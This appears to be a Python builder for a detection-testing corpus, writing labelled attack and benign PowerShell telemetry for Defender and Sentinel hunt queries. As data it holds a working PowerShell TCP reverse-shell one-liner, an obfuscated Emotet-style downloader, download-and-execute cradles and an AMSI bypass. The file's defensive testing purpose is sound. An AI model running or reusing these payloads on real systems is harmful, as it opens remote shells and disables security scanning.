"""Writes the labelled telemetry corpus (defender/*.jsonl, sentinel/*.jsonl) from scenarios.

Every scenario is one device (its DeviceId/DeviceName/Computer is the scenario id), so a hunt's
match names the scenario it caught. Rows are written by the huntwire team from the public
descriptions named in labels.json ("source"); none is copied from a recording. ``python
tests/corpus_telemetry/build.py`` rewrites the files; the scoring test reads them.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

from rows import (  # noqa: E402
    ANY_ADDRESS,
    DAY,
    PS,
    connect,
    created,
    defender,
    enc,
    image_load,
    labels,
    proc,
    ps_command,
    scenario,
    script_block,
    security_4688,
    sentinel,
    sysmon_net,
    sysmon_process,
    t,
)

NOW = f"{DAY}T12:00:00Z"


def build_defender() -> None:
    sid = "d-meterpreter-psexec"
    scenario(sid, "attack", "defender", "Metasploit powershell extension: powershell_execute runs "
             "a command in the meterpreter process (rapid7 docs, 'Powershell Extension')")
    host = proc(sid, 4321, "update.exe", r"C:\Users\user\AppData\Local\Temp\update.exe",
                "update.exe", parent="winword.exe")
    image_load(t("10:00"), host)
    ps_command(t("10:01"), host, "Invoke-WebRequest", "Invoke-Expression")
    connect(t("09:59"), host, "203.0.113.44", 4444)

    sid = "d-cobaltstrike-powerpick"
    scenario(sid, "attack", "defender", "Cobalt Strike powerpick: unmanaged PowerShell in a "
             "spawn-to process, rundll32.exe by default (Cobalt Strike manual, 'PowerShell')")
    host = proc(sid, 5120, "rundll32.exe", r"C:\Windows\System32\rundll32.exe", "rundll32.exe")
    image_load(t("10:05"), host)
    ps_command(t("10:06"), host, "Get-NetDomain", "Get-NetUser")

    sid = "d-powershdll"
    scenario(sid, "attack", "defender", "PowerShdll: rundll32 PowerShdll.dll,main runs PowerShell "
             "without powershell.exe (p3nt4/PowerShdll README)")
    host = proc(sid, 5200, "rundll32.exe", r"C:\Windows\System32\rundll32.exe",
                r"rundll32.exe C:\Users\Public\PowerShdll.dll,main", parent="cmd.exe")
    image_load(t("10:10"), host)
    ps_command(t("10:11"), host, "New-Object", "Invoke-Expression")

    sid = "d-emotet-downloader"
    scenario(sid, "attack", "defender", "Emotet document macro: powershell -enc with string "
             "reversal and char arithmetic, WebClient DownloadFile then Invoke-Item (public "
             "Emotet analyses, e.g. CISA AA20-280A)")
    script = ("$r=-join('1sp.x/daolpu/ten.elpmaxe-tset//:ptth'[-1..-36]);$w=&('N'+'ew-Object') "
              "('Net.Web'+'Client');$p=$env:public+'\\'+([char]112+[char]50)+'.exe';"
              "$w.('Download'+'File')($r,$p);&('Invoke-'+'Item') $p")
    cmd = f"powershell -nop -w hidden -e {enc(script)}"
    host = proc(sid, 6100, "powershell.exe", PS, cmd, parent="winword.exe")
    created(t("10:15"), sid, 6100, "powershell.exe", cmd, parent="winword.exe")
    ps_command(t("10:16"), host, "New-Object", "Invoke-Item")
    connect(t("10:16"), host, "198.51.100.23", 80)

    sid = "d-empire-internal-beacon"
    scenario(sid, "attack", "defender", "Empire HTTP agent beaconing to an internal listener "
             "(OTRF Security-Datasets Empire descriptions; agent runs from a script file)")
    host = proc(sid, 6200, "powershell.exe", PS,
                r"powershell.exe -ExecutionPolicy Bypass -File C:\Users\Public\sync.ps1")
    for minute in range(10, 40, 5):
        connect(t(f"11:{minute}"), host, "10.10.10.5", 8080)

    sid = "d-covenant-internal"
    scenario(sid, "attack", "defender", "Covenant Grunt (PowerShell launcher) to an internal "
             "listener on port 80 (Covenant wiki, 'Launchers')")
    host = proc(sid, 6300, "powershell.exe", PS, r"powershell -sta -File C:\ProgramData\g.ps1")
    for minute in (20, 21, 22, 23):
        connect(t(f"11:{minute}"), host, "192.168.56.20", 80)

    sid = "d-meterpreter-internal-4444"
    scenario(sid, "attack", "defender", "reverse shell to an internal handler on 4444, one long "
             "connection (Metasploit reverse_tcp descriptions)")
    host = proc(sid, 6350, "powershell.exe", PS, r"powershell -File C:\Users\user\r.ps1")
    connect(t("11:25"), host, "10.1.0.99", 4444)

    sid = "d-powercat-bind"
    scenario(sid, "attack", "defender", "powercat -l -p 4444 -e cmd bind shell (powercat README)")
    host = proc(sid, 6400, "powershell.exe", PS, r"powershell -File C:\Users\user\tools\l.ps1")
    connect(t("10:30"), host, ANY_ADDRESS, 0, action="ListeningConnectionCreated", local_port=4444)
    connect(t("10:32"), host, "10.1.0.77", 51234, action="InboundConnectionAccepted",
            local_port=4444)

    sid = "d-bind-listener-opened-earlier"
    scenario(sid, "attack", "defender", "nishang Invoke-PowerShellTcp -Bind whose listener "
             "opened before the hunt window (nishang README)")
    host = proc(sid, 6500, "pwsh.exe", r"C:\Program Files\PowerShell\7\pwsh.exe",
                r"pwsh -File C:\Users\user\b.ps1")
    connect(t("10:40"), host, "10.1.0.90", 50999, action="InboundConnectionAccepted",
            local_port=8443)

    sid = "d-winrm-admin"
    scenario(sid, "benign", "defender", "admin remoting: Enter-PSSession / Invoke-Command over "
             "WinRM 5985/5986 and SMB to servers")
    host = proc(sid, 7000, "powershell.exe", PS, "powershell.exe")
    for i, (ip, port) in enumerate((("10.0.2.10", 5985), ("10.0.2.11", 5986), ("10.0.2.12", 445),
                                    ("10.0.2.13", 3389), ("10.0.2.14", 22))):
        connect(t(f"11:{10 + i}"), host, ip, port)

    sid = "d-package-feed"
    scenario(sid, "benign", "defender", "internal NuGet/PowerShell repository used by every "
             "device's scripts (a fleet service)")
    for n in range(4):
        other = proc(f"d-feed-peer-{n}", 7100 + n, "powershell.exe", PS, "powershell.exe")
        connect(t("10:00", "2026-10-28"), other, "10.0.5.5", 8443)
        scenario(f"d-feed-peer-{n}", "benign", "defender", "baseline peer of d-package-feed")
    connect(t("11:15"), proc(sid, 7200, "powershell.exe", PS, "powershell.exe"), "10.0.5.5", 8443)

    sid = "d-daily-script"
    scenario(sid, "benign", "defender", "a scheduled script that calls the same internal API "
             "every day (in the 14-day baseline)")
    for day in ("2026-10-25", "2026-10-29", "2026-11-01"):
        connect(t("11:00", day), proc(sid, 7300, "powershell.exe", PS, "powershell.exe"),
                "10.0.7.7", 9000)
    connect(t("11:00"), proc(sid, 7301, "powershell.exe", PS, "powershell.exe"), "10.0.7.7", 9000)

    sid = "d-admin-first-web-request"
    scenario(sid, "benign", "defender", "an admin's first Invoke-WebRequest to an internal web app "
             "and a one-off SQL port test (Test-NetConnection docs)")
    host = proc(sid, 7350, "powershell.exe", PS, "powershell.exe")
    connect(t("11:30"), host, "10.0.9.9", 443)
    connect(t("11:31"), host, "10.0.9.10", 1433)

    sid = "d-admin-wmi-ad"
    scenario(sid, "benign", "defender", "Get-CimInstance over DCOM (135, then a dynamic RPC port) "
             "and the ActiveDirectory module (AD Web Services 9389) from an admin's PowerShell")
    host = proc(sid, 7360, "powershell.exe", PS, "powershell.exe")
    connect(t("11:40"), host, "10.0.2.20", 135)
    connect(t("11:40"), host, "10.0.2.20", 49702)
    connect(t("11:41"), host, "10.0.0.10", 9389)

    sid = "d-script-starts-installer"
    scenario(sid, "benign", "defender", "a scheduled -File script downloads an installer with "
             "WebClient and runs it with Start-Process (vendor update scripts)",
             tolerated=("powershell-outbound-public-connection",))
    host = proc(sid, 7370, "powershell.exe", PS, r"powershell.exe -File C:\Scripts\update.ps1",
                parent="svchost.exe")
    ps_command(t("10:45"), host, "New-Object", "Start-Process")
    connect(t("10:45"), host, "104.18.0.20", 443, url="downloads.vendor.example")

    sid = "d-chocolatey-package"
    scenario(sid, "benign", "defender", "choco.exe runs a package script in-process (Chocolatey "
             "docs: the PowerShell host inside choco.exe)")
    image_load(t("10:50"), proc(sid, 7380, "choco.exe", r"C:\ProgramData\chocolatey\choco.exe",
                                "choco.exe upgrade all -y", parent="svchost.exe"))

    sid = "d-legit-engine-hosts"
    scenario(sid, "benign", "defender", "PowerShell remoting host (wsmprovhost.exe), a signed "
             "agent in Program Files and SCOM's MonitoringHost hosting the engine")
    image_load(t("10:00"), proc(sid, 7400, "wsmprovhost.exe",
                                r"C:\Windows\System32\wsmprovhost.exe",
                                "wsmprovhost.exe -Embedding"))
    image_load(t("10:01"), proc(sid, 7401, "agent.exe", r"C:\Program Files\Vendor\agent.exe",
                                '"C:\\Program Files\\Vendor\\agent.exe" --service'))
    scom = proc(sid, 7402, "MonitoringHost.exe",
                r"C:\Program Files\Microsoft Monitoring Agent\Agent\MonitoringHost.exe",
                "MonitoringHost.exe -Embedding")
    image_load(t("10:02"), scom)
    ps_command(t("10:03"), scom, "Get-WmiObject", "Get-Counter", "ConvertTo-Json")

    sid = "d-chocolatey"
    scenario(sid, "benign", "defender", "Chocolatey bootstrap (docs.chocolatey.org install)",
             tolerated=("powershell-outbound-public-connection",))
    cmd = ("powershell -NoProfile -ExecutionPolicy Bypass -Command \"iex ((New-Object "
           "System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\"")
    host = proc(sid, 7500, "powershell.exe", PS, cmd)
    ps_command(t("10:20"), host, "New-Object", "Invoke-Expression", "Get-Item")
    connect(t("10:20"), host, "104.18.0.10", 443, url="community.chocolatey.org")

    sid = "d-agent-inventory"
    scenario(sid, "benign", "defender", "SCCM-style inventory script as -EncodedCommand "
             "(management agent), reporting to its internal server daily")
    script = "Get-CimInstance Win32_OperatingSystem | ConvertTo-Json"
    cmd = f"powershell.exe -NoProfile -NonInteractive -EncodedCommand {enc(script)}"
    host = proc(sid, 7600, "powershell.exe", PS, cmd, parent="CcmExec.exe")
    ps_command(t("10:25"), host, "Get-CimInstance", "ConvertTo-Json")
    for day in ("2026-10-26", "2026-10-30", DAY):
        connect(t("10:25", day), host, "10.0.1.1", 443)

    sid = "d-pode-local"
    scenario(sid, "benign", "defender", "a Pode web server on a developer box: listens, accepts "
             "loopback connections only")
    host = proc(sid, 7700, "pwsh.exe", r"C:\Program Files\PowerShell\7\pwsh.exe",
                r"pwsh -File C:\dev\site\server.ps1")
    connect(t("10:00"), host, ANY_ADDRESS, 0, action="ListeningConnectionCreated", local_port=8080)
    connect(t("10:05"), host, "127.0.0.1", 50500, action="InboundConnectionAccepted",
            local_port=8080)

    sid = "d-listen-no-peer"
    scenario(sid, "benign", "defender", "a test listener nobody connected to")
    connect(t("10:00"), proc(sid, 7800, "powershell.exe", PS, "powershell -File t.ps1"),
            ANY_ADDRESS, 0, action="ListeningConnectionCreated", local_port=9999)


SHELL = ("$c=New-Object Net.Sockets.TCPClient('10.20.30.40',4444);$s=$c.GetStream();"
         "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object "
         "Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);"
         "$r=([Text.Encoding]::ASCII).GetBytes($o+'PS> ');$s.Write($r,0,$r.Length)};$c.Close()")


def build_sentinel() -> None:
    c = "s-sysmon-tcp-shell"
    scenario(c, "attack", "sentinel", "TCP reverse-shell one-liner (nishang "
             "Invoke-PowerShellTcpOneLine) seen by Sysmon event 1")
    sysmon_process(c, t("10:00"), 8100, PS, f"powershell -nop -c \"{SHELL}\"")
    c = "s-4688-encoded-shell"
    scenario(c, "attack", "sentinel", "the same shell as -EncodedCommand (revshells.com "
             "'PowerShell #3 (Base64)') seen by Security 4688")
    security_4688(c, t("10:05"), "0x1fa4", PS, f"powershell -e {enc(SHELL)}")
    c = "s-4688-stdin-cradle"
    scenario(c, "attack", "sentinel", "cradle handed to powershell on standard input "
             "(Invoke-Obfuscation launcher descriptions)")
    security_4688(c, t("10:07"), "0x2000", r"C:\Windows\System32\cmd.exe",
                  "cmd.exe /c echo IEX (New-Object Net.WebClient).DownloadString('https://"
                  "cdn.files-example.net/a.ps1') | powershell -NoProfile -")
    c = "s-4104-obfuscated-shell"
    scenario(c, "attack", "sentinel", "an Invoke-Obfuscation-encoded shell whose 4104 script "
             "block holds the decoded code (PowerShell script block logging docs)")
    script_block(c, t("10:10"), SHELL, "{6a1b0c2d-0000-4000-8000-000000000001}")
    c = "s-4104-cradle"
    scenario(c, "attack", "sentinel", "plain-http cradle in a script block (Cobalt Strike "
             "scripted web delivery shape)")
    script_block(c, t("10:12"), "IEX ((new-object net.webclient).downloadstring("
                 "'http://198.51.100.7:80/a'))", "{6a1b0c2d-0000-4000-8000-000000000002}")
    c = "s-4104-amsi-bypass"
    scenario(c, "attack", "sentinel", "Empire stager's AMSI bypass as logged in 4104 (Empire "
             "stager descriptions)")
    script_block(c, t("10:14"), "$a=[Ref].Assembly.GetType('System.Management.Automation."
                 "AmsiUtils');$a.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,"
                 "$true)", "{6a1b0c2d-0000-4000-8000-000000000003}")
    c = "s-sysmon-bind"
    scenario(c, "attack", "sentinel", "powercat -l -p 4444 -e cmd accepted a peer (Sysmon 3, "
             "Initiated=false)")
    sysmon_net(c, t("10:20"), 8200, PS, False, "10.1.0.77", 51234, "10.1.0.20", 4444)
    c = "s-sysmon-internal-beacon"
    scenario(c, "attack", "sentinel", "Empire agent beaconing to an internal listener (Sysmon 3)")
    for minute in range(10, 40, 5):
        sysmon_net(c, t(f"11:{minute}"), 8300, PS, True, "10.1.0.21", 50000 + minute,
                   "10.10.10.5", 8080)
    c = "s-sysmon-public-shell"
    scenario(c, "attack", "sentinel", "a -File reverse shell to a public address (Sysmon 3)")
    sysmon_net(c, t("10:30"), 8400, PS, True, "10.1.0.22", 50400, "203.0.113.57", 443)
    c = "s-4688-chocolatey"
    scenario(c, "benign", "sentinel", "Chocolatey bootstrap in Security 4688")
    security_4688(c, t("10:00"), "0x2100", PS, "powershell -NoProfile -ExecutionPolicy Bypass "
                  "-Command \"iex ((New-Object System.Net.WebClient).DownloadString('https://"
                  "community.chocolatey.org/install.ps1'))\"")
    c = "s-sysmon-admin"
    scenario(c, "benign", "sentinel", "admin one-liners in Sysmon 1 (PowerShell docs examples)")
    sysmon_process(c, t("10:00"), 8500, PS, "powershell.exe -Command \"Get-Service | "
                   "Where-Object Status -eq 'Running'\"")
    sysmon_process(c, t("10:01"), 8501, PS, "powershell.exe -NoProfile -Command "
                   "\"Test-NetConnection -ComputerName web01 -Port 443\"")
    c = "s-4104-benign-blocks"
    scenario(c, "benign", "sentinel", "script blocks of admin scripts: a TcpClient port probe, "
             "a health check with Invoke-WebRequest, a module function")
    script_block(c, t("10:00"), "$t=New-Object Net.Sockets.TcpClient;$t.Connect('db01',1433);"
                 "$t.Connected;$t.Close()", "{7a1b0c2d-0000-4000-8000-000000000001}")
    script_block(c, t("10:01"), "$r=Invoke-WebRequest -UseBasicParsing "
                 "https://status.contoso.example/health; if($r.StatusCode -ne 200){exit 1}",
                 "{7a1b0c2d-0000-4000-8000-000000000002}")
    script_block(c, t("10:02"), "function Get-DiskReport { Get-Volume | Where-Object "
                 "SizeRemaining -lt 10GB | Select-Object DriveLetter, SizeRemaining }",
                 "{7a1b0c2d-0000-4000-8000-000000000003}")
    c = "s-sysmon-admin-remoting"
    scenario(c, "benign", "sentinel", "WinRM, SMB and RDP from an admin's PowerShell (Sysmon 3)")
    for i, port in enumerate((5985, 5986, 445, 3389)):
        sysmon_net(c, t(f"11:{10 + i}"), 8600, PS, True, "10.1.0.30", 50600 + i,
                   f"10.0.2.{10 + i}", port)
    c = "s-sysmon-admin-web"
    scenario(c, "benign", "sentinel", "an admin's first request to an internal web app (Sysmon 3)")
    sysmon_net(c, t("11:30"), 8650, PS, True, "10.1.0.32", 50650, "10.0.9.9", 443)
    c = "s-sysmon-dcom"
    scenario(c, "benign", "sentinel", "Get-CimInstance over DCOM: 135, then a dynamic RPC port")
    sysmon_net(c, t("11:40"), 8660, PS, True, "10.1.0.33", 50660, "10.0.2.20", 135)
    sysmon_net(c, t("11:40"), 8660, PS, True, "10.1.0.33", 50661, "10.0.2.20", 49702)
    c = "s-sysmon-m365"
    scenario(c, "benign", "sentinel", "PowerShell to Exchange Online (Microsoft 365 range)")
    sysmon_net(c, t("10:40"), 8700, PS, True, "10.1.0.31", 50700, "52.96.10.10", 443)
    c = "s-sysmon-loopback-listener"
    scenario(c, "benign", "sentinel", "Pode dev server accepting loopback connections")
    sysmon_net(c, t("10:45"), 8800, PS, False, "127.0.0.1", 50800, "127.0.0.1", 8080)


def write() -> None:
    build_defender()
    build_sentinel()
    for form, tables in (("defender", defender), ("sentinel", sentinel)):
        folder = HERE / form
        folder.mkdir(exist_ok=True)
        for table, rows in tables.items():
            (folder / f"{table}.jsonl").write_text(
                "".join(json.dumps(r, sort_keys=True) + "\n" for r in rows), encoding="utf-8")
    (HERE / "labels.json").write_text(json.dumps(labels, indent=1, sort_keys=True) + "\n",
                                      encoding="utf-8")


if __name__ == "__main__":
    write()
